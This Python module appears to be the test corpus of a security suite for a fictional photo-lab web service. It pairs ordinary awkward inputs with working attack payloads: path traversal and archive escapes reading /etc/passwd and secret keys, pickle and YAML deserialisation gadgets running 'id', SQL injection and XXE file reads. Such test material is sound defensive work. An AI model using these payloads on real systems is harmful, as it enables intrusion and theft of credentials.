"""A photo laboratory's files."""

import base64
import gzip
import io
import pickle
import tarfile
import zipfile
from collections.abc import Mapping

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.seventh import (
    COMPANY,
    EMOJI,
    HTML_TALK,
    JSON_TALK,
    LETTER,
    NAMES,
    PATH_TALK,
    PYTHON_TALK,
    SHELL_TALK,
    SQL_TALK,
    TEMPLATE_TALK,
    appsync,
    b64,
    bus,
    http,
    multipart,
    rest,
    s3,
)

KEY = "studio-key-2718"
PASSWD = "root:x:0"


def _zip(files: Mapping[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text in files.items():
            archive.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), text)
    return out.getvalue()


def _tar(files: Mapping[str, str], links: Mapping[str, str] | None = None, mode: str = "w:gz") -> str:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:
        for name, target in (links or {}).items():
            link = tarfile.TarInfo(name)
            link.type, link.linkname = tarfile.SYMTYPE, target
            archive.addfile(link)
        for name, text in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(text.encode())
            archive.addfile(info, io.BytesIO(text.encode()))
    return b64(out.getvalue())


def _binary(path: str, data: bytes) -> dict[str, object]:
    return {**http("POST", path), "body": b64(data), "isBase64Encoded": True}


def _caption(name: str) -> dict[str, object]:
    return rest("GET", "/captions/{name}", ids={"name": name})


def _path(path: str) -> dict[str, object]:
    return http("GET", "/captions", query={"path": path})


def _title(title: str) -> dict[str, object]:
    return http("GET", "/titles", query={"title": title})


def _cookie(data: bytes) -> dict[str, object]:
    return http("GET", "/basket", cookies=("lang=en", "basket=" + base64.urlsafe_b64encode(data).decode()))


class _Call:
    """What calls a function when it is loaded."""

    def __init__(self, name: str, *arguments: object) -> None:
        self.name, self.arguments = name, arguments

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        module, _, name = self.name.rpartition(".")
        return getattr(__import__(module, fromlist=[name]), name), self.arguments


# Without what `pickle` would do to make the names of the functions shorter.
_OUTPUT = pickle.dumps(_Call("subprocess.getoutput", "id"), 2)
_EVAL = pickle.dumps(_Call("builtins.eval", "open('/etc/passwd').read(40)"), 0)


def _array(kind: str, count: int, data: bytes) -> dict[str, object]:
    head = f"{{'descr': '{kind}', 'fortran_order': False, 'shape': ({count},), }}".ljust(117) + "\n"
    return {"array": b64(b"\x93NUMPY\x01\x00v\x00" + head.encode() + data)}


def _log(config: str, **more: str) -> dict[str, object]:
    return bus("Logging", {"config": config, **more})


_LOG = '{"formatters": {"f": {"format": "%s"}}, "handlers": {"h": {"class": "logging.StreamHandler", "formatter": "f"}}, "loggers": {"studio": {"handlers": ["h"]}}}'
_CORE = "<?xml version='1.0'?>{}<cp:coreProperties xmlns:cp='urn:cp' xmlns:dc='urn:dc'><dc:title>{}</dc:title><dc:creator>O'Brien &amp; Söhne</dc:creator></cp:coreProperties>"
_ENTITY = '<!DOCTYPE a [<!ENTITY x SYSTEM "file://{}">]>'

REQUESTS = {
    "on_upload": [
        s3("2024/05/O'Brien & Söhne (1).jpg", "été/100% sure?.png"),
        s3("a b/c..d/.hidden", "茶/🍵.webp"),
        s3("$(id);`x`|y.txt", "x'; DROP TABLE y;--.csv"),
    ],
    "caption": [_caption("day one (1)"), _caption("été.txt"), _caption("no such"), _caption("O'Brien; x")],
    "caption_checked": [
        _path("ann/day%20one%20(1).txt"),
        _path("/ann/été.txt"),
        _path("ann/../ann/été.txt"),
        _path("no/such (2).txt"),
    ],
    "caption_normalised": [
        _title("été"),
        _title("day one (1)"),
        _title("e\u0301te\u0301"),
        _title("ﬁrst..."),
    ],
    "theme": [
        http("POST", "/theme", {"parts": ["ann", "été.txt"]}),
        http("POST", "/theme", {"parts": ["ann", ".", "day one (1).txt"]}),
        http("POST", "/theme", {"parts": ["prices.csv"]}),
    ],
    "unpack": [
        _binary("/albums", _zip({"a/O'Brien (1).txt": SHELL_TALK, "b..c/été.txt": "x", "d/": ""})),
        _binary("/albums", _zip({"notes.md": PATH_TALK, "$HOME/~x/%2e%2e/y": SQL_TALK})),
    ],
    "unpack_tar": [
        {"archive": _tar({"index.txt": LETTER, "it's (2).txt": "x"})},
        {"archive": _tar({"index.txt": "a", "real/b.txt": "b"}, {"link": "real/b.txt"}, "w:bz2")},
    ],
    "unpack_tar_safely": [
        {"archive": _tar({"./a b/c'd.txt": PYTHON_TALK, "..e": "x"}, mode="w:xz")},
        {"archive": _tar({"f": TEMPLATE_TALK}, {"g": "f"})},
    ],
    "attach": [
        multipart("/attach", {"note": HTML_TALK}, {"photo": ("O'Brien & co (1).txt", SHELL_TALK.encode())}),
        multipart(
            "/attach", {"note": ""}, {"a": ("résumé..final.txt", b"x"), "b": (".profile", b"PATH=$HOME")}
        ),
        multipart("/attach", {"../x": "y", "q": NAMES[2]}),
    ],
    "settings": [
        http(
            "POST",
            "/settings",
            "paper: \"O'Brien's\"\nsizes: [10x15, '20x30']\nwhen: 2024-05-01\nbase: &b {a: 1}\nnext: *b\n",
        ),
        http("POST", "/settings", f"note: |\n  {SHELL_TALK}\n  {PYTHON_TALK.splitlines()[0]}\nrun: yes\n"),
        http("POST", "/settings", ""),
    ],
    "settings_safe": [
        http(
            "POST", "/settings", "[paths]\nhome = /var/x\nalbums = ${home}/it's\n[sql]\nq = SELECT 1; -- x\n"
        ),
        http("POST", "/settings", "- it's: [a\n- b"),
        http("POST", "/settings", "cmd: 'rm -rf / && echo $(id)'\nexpr: \"__import__('os')\"\n"),
    ],
    "session": [
        _cookie(pickle.dumps({"items": ["10x15", "O'Brien's frame"]})),
        _cookie(pickle.dumps({"items": [("a", 2.5), {"b": SQL_TALK}]}, 2)),
        http("GET", "/basket"),
    ],
    "session_packed": [
        _cookie(gzip.compress(b"\x81\xa5items\x92\x01\xa3a'b", mtime=0)),
        _cookie(gzip.compress(b"\x82\xa1a\xc0\xa1b\xa6../x;y", mtime=0)),
    ],
    "histogram": [
        _array("<i4", 2, b"\x07\0\0\0\x02\0\0\0"),
        _array("<U3", 1, "it'".encode("utf-32-le")),
    ],
    "frame": [
        {"name": "Q1 (O'Brien).csv", "data": b64('name,note\n"D\'Souza, Zoë","=1+1; $(id)"\n')},
        {
            "name": "x..y.jsonl",
            "data": b64('{"a": "' + EMOJI.replace('"', "") + '", "b": 1}\n{"a": "{{7*7}}", "b": 2}\n'),
        },
        {"name": "../old.csv", "data": b64("q\n\"SELECT * FROM t WHERE a = 'b'\"\n")},
    ],
    "prices": [
        {"source": "prices"},
        {"source": "prices", "size": '20x30 "matt"'},
        {"source": "prices", "size": "10x15 or 20x30's"},
    ],
    "index": [
        {"customer": "O-Brien 7", "photo": "a'b.jpg", "words": ["sea", "it's", SQL_TALK]},
        {"customer": "李", "photo": "../x.jpg", "words": [TEMPLATE_TALK, COMPANY]},
    ],
    "filter_caption": [
        {"filter": "sepia", "caption": PYTHON_TALK},
        {"filter": "mono", "caption": "it's os.system('x')"},
        {"filter": "filters.sepia", "caption": SHELL_TALK},
    ],
    "log_setup": [
        _log(
            _LOG % "%(levelname)s [%(name)s] %(message)s",
            message=TEMPLATE_TALK.replace("%s", "").replace("%", ""),
        ),
        _log(_LOG % "it's {x} %(message)s; $(id)", message=SQL_TALK),
    ],
    "order_xml": [
        http(
            "POST",
            "/orders",
            "<order id=\"7'8\"><shop>O'Brien &amp; Söhne</shop><line>2 &lt; 3</line></order>",
        ),
        http(
            "POST",
            "/orders",
            "<!DOCTYPE order [<!ENTITY euro '&#8364;'>]><order><shop>&euro; shop</shop><line><![CDATA[<b>]]></line></order>",
        ),
        http(
            "POST",
            "/orders",
            "<order><shop>file:///etc/passwd</shop><line id='../x'>//x[@a='1']</line></order>",
        ),
    ],
    "metadata_xml": [
        {
            "package": b64(
                _zip(
                    {
                        "docProps/core.xml": _CORE.format("", "It's &lt;new&gt; ; x"),
                        "word/document.xml": "<a/>",
                    }
                )
            )
        },
        {
            "package": b64(_zip({"docProps/core.xml": _CORE.format("<!-- SYSTEM 'x' -->", "報告 (2)")})),
            "old": False,
        },
    ],
    "picture": [appsync("Mutation", "picture", text=one) for one in ("O'Brien & co", PATH_TALK, "")],
    "publish": [
        {"files": {"day one (1).txt": "2024/O'Brien (a).txt", "été.txt": "/x y;z.txt"}},
        {"files": {"été.txt": "…/..hidden/file..txt"}},
    ],
    "preset": [
        {"preset": "{'name': \"O'Brien\", 'size': (10, 15), 'gamma': -1.5e3}"},
        {"preset": repr({"note": PYTHON_TALK, "json": JSON_TALK})},
    ],
}
ATTACKS = [
    Attack("path", "caption", _caption("../bo/only-bo"), "album-of-bo-secret"),
    Attack("path", "caption", _caption("../../albums-private/list.txt"), "private-list-616"),
    Attack("path, sibling", "caption_checked", _path("../albums-private/list.txt"), "private-list-616"),
    Attack(
        "path, percent-encoded",
        "caption_checked",
        _path("%2e%2e/albums%2Dprivate/list.txt"),
        "private-list-616",
    ),
    Attack(
        "path, replaced", "caption_normalised", _title("..././..././albums-private/list"), "private-list-616"
    ),
    Attack("path, normalised", "caption_normalised", _title("․․/bo/only-bo"), "album-of-bo-secret"),
    Attack("path, absolute", "theme", http("POST", "/theme", {"parts": ["ann", "/etc/passwd"]}), PASSWD),
    Attack("path, joined", "theme", http("POST", "/theme", {"parts": ["../studio.key"]}), KEY),
    Attack(
        "path, joined",
        "theme",
        http("POST", "/theme", {"parts": ["/proc/self/environ"]}),
        "AWS_SECRET_ACCESS_KEY",
    ),
    Attack(
        "archive",
        "unpack",
        _binary("/albums", _zip({"a.txt": "x", "../../albums/bo/planted.txt": "y"})),
        '"bo/planted.txt"',
    ),
    Attack(
        "archive, absolute",
        "unpack",
        _binary("/albums", _zip({"/proc/self/comm": "y"})),
        '"/proc/self/comm", "size": 0',
    ),
    Attack(
        "archive, link", "unpack_tar", {"archive": _tar({"a": "x"}, {"index.txt": "../../studio.key"})}, KEY
    ),
    Attack(
        "archive, link",
        "unpack_tar",
        {"archive": _tar({"a": "x"}, {"index.txt": "/etc/passwd"}, "w:xz")},
        PASSWD,
    ),
    Attack(
        "archive, link",
        "unpack_tar",
        {"archive": _tar({}, {"d": "../..", "index.txt": "d/studio.key"}, "w")},
        KEY,
    ),
    Attack(
        "path, multipart",
        "attach",
        multipart("/attach", {}, {"f": ("../albums/ann/new.txt", b"planted")}),
        '"is_ours": false',
    ),
    Attack(
        "path, multipart",
        "attach",
        multipart("/attach", {}, {"f": ("/tmp/darkroom-planted.txt", b"planted")}),
        '"is_ours": false',
    ),
    Attack(
        "deserialiser, YAML",
        "settings",
        http("POST", "/settings", "a: !!python/object/apply:subprocess.getoutput ['id']\n"),
        "uid=",
    ),
    Attack(
        "deserialiser, YAML",
        "settings",
        http(
            "POST",
            "/settings",
            "paper: x\nb: [!!python/object/apply:subprocess.check_output [[cat, /etc/passwd]]]\n",
        ),
        PASSWD,
    ),
    Attack("deserialiser, pickle", "session", _cookie(_OUTPUT), "uid="),
    Attack("deserialiser, pickle", "session", _cookie(_EVAL), PASSWD),
    Attack("deserialiser, numpy", "histogram", _array("|O", 1, _EVAL), PASSWD),
    Attack("deserialiser, pandas", "frame", {"name": "x.csv.gz", "data": b64(_OUTPUT)}, "uid="),
    Attack("path, SQL", "prices", {"source": "../studio.key', header=false) --"}, KEY),
    Attack(
        "path, SQL",
        "prices",
        {"source": "prices.csv') UNION SELECT content, filename FROM read_text('/etc/passwd') --"},
        PASSWD,
    ),
    Attack(
        "import", "filter_caption", {"filter": "subprocess", "action": "getoutput", "caption": "id"}, "uid="
    ),
    Attack(
        "import",
        "filter_caption",
        {"filter": "os.path", "action": "expandvars", "caption": "$AWS_SECRET_ACCESS_KEY"},
        "not-a-real-key",
    ),
    Attack(
        "deserialiser, logging",
        "log_setup",
        _log(_LOG.replace('"format": "%s"', '"()": "subprocess.getoutput", "cmd": "id"')),
        "uid=",
    ),
    Attack(
        "XXE",
        "order_xml",
        http("POST", "/orders", _ENTITY.format("/etc/passwd") + "<a><shop>&x;</shop></a>"),
        PASSWD,
    ),
    Attack(
        "XXE",
        "order_xml",
        http("POST", "/orders", _ENTITY.format("/proc/self/status") + "<a><line>&x;</line></a>"),
        "VmPeak",
    ),
    Attack(
        "XXE, archive",
        "metadata_xml",
        {"package": b64(_zip({"docProps/core.xml": _CORE.format(_ENTITY.format("/etc/passwd"), "&x;")}))},
        PASSWD,
    ),
    Attack("path", "publish", {"files": {"../bo/only-bo.txt": "a.txt"}}, "album-of-bo-secret"),
    Attack("path, key", "publish", {"files": {"../../studio.key": "b.txt", "été.txt": "c.txt"}}, KEY),
]
